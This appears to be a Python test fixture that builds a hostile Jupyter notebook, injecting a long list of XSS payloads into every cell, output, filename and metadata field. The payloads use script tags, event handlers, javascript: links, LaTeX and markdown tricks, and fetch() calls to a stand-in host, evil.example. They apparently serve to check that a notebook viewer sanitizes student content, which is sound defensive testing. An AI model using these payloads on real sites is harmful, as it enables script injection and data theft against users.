"""A notebook that tries to run a script, or to fetch something, wherever a student can write."""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

AWAY = "http://evil.example"
RUN = f"window.pwned=1;alert(1);fetch('{AWAY}/fetched')"
HTML = rf"""
<script>{RUN}</script>
</script><script>{RUN}</script>
</style><script>{RUN}</script>
</title></textarea></math></svg><script>{RUN}</script>
--><script>{RUN}</script>
]]><script>{RUN}</script>
<img src=x onerror="{RUN}">
<img src="{AWAY}/pixel.png">
<svg onload="{RUN}"></svg>
<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>
<math><mtext><img src=x onerror="{RUN}"></mtext></math>
<details open ontoggle="{RUN}">x</details>
<body onload="{RUN}">
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="javascript:{RUN}"></iframe>
<object data="{AWAY}/object"></object>
<embed src="{AWAY}/embed">
<meta http-equiv="refresh" content="0;url={AWAY}/refresh">
<base href="{AWAY}/">
<link rel=stylesheet href="{AWAY}/sheet.css">
<style>@import url({AWAY}/import.css); body {{ background: url({AWAY}/background.png) }}</style>
<p style="background: url({AWAY}/style.png); position: fixed; inset: 0">x</p>
<form action="{AWAY}/form"><input autofocus onfocus="{RUN}"></form>
<a href="javascript:{RUN}" id="trap">x</a> [x](javascript:{RUN}) ![x]({AWAY}/markdown.png)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![x](data:text/html,<script>{RUN}</script>)
![x" onerror="{RUN}](x.png) <x onmouseover={RUN} style=width:99999px>{"W" * 3000}</x>
"""
LATEX = (
    rf"\text{{<svg/onload={RUN}>}}",
    rf"\text{{</math><img src=x onerror={RUN}>}}",
    rf"\href{{javascript:{RUN}}}{{x}}",
    rf"\style{{background:url({AWAY}/latex.png)}}{{x}}",
    rf'\class{{x" onmouseover="{RUN}}}{{x}}',
    rf"\mathrm{{<script>{RUN}</script>}}",
    rf"\includegraphics{{{AWAY}/graphics.png}}",
    rf'\color{{red" onmouseover="{RUN}}} x',
)
NAME = f'<img src=x onerror="{RUN}">"><script>{RUN}</script>'
FILE = "<img src=x onerror=alert(1)>.ipynb"
_OUTPUT = {"output_type": "display_data", "metadata": {}, "data": {"text/html": HTML, "text/plain": HTML}}


def write_hostile(sheet: Path, target: Path) -> Path:
    """The sheet with attacks in every cell and every output."""
    notebook = json.loads(sheet.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        lines = "".join(cell["source"])
        attack = _in_words() if cell["cell_type"] == "markdown" else _in_code()
        cell["source"] = f"{lines}\n\n{attack}"
        if cell["cell_type"] == "code":
            cell["outputs"] = [copy.deepcopy(_OUTPUT)]
    _metadata(notebook)
    target.write_text(json.dumps(notebook), encoding="utf-8")
    return target


def _in_words() -> str:
    displays = "\n".join(f"$$\ny_j = {latex}\n$$\nand ${latex}$" for latex in LATEX)
    return f"{displays}\n\n{HTML}"


def _in_code() -> str:
    comments = "\n".join(f"# {line}" for line in HTML.splitlines())
    return f"{comments}\nATTACK = {HTML!r}"


def _metadata(notebook: dict[str, Any]) -> None:
    notebook["metadata"]["title"] = HTML
    notebook["metadata"].setdefault("kernelspec", {})["display_name"] = HTML
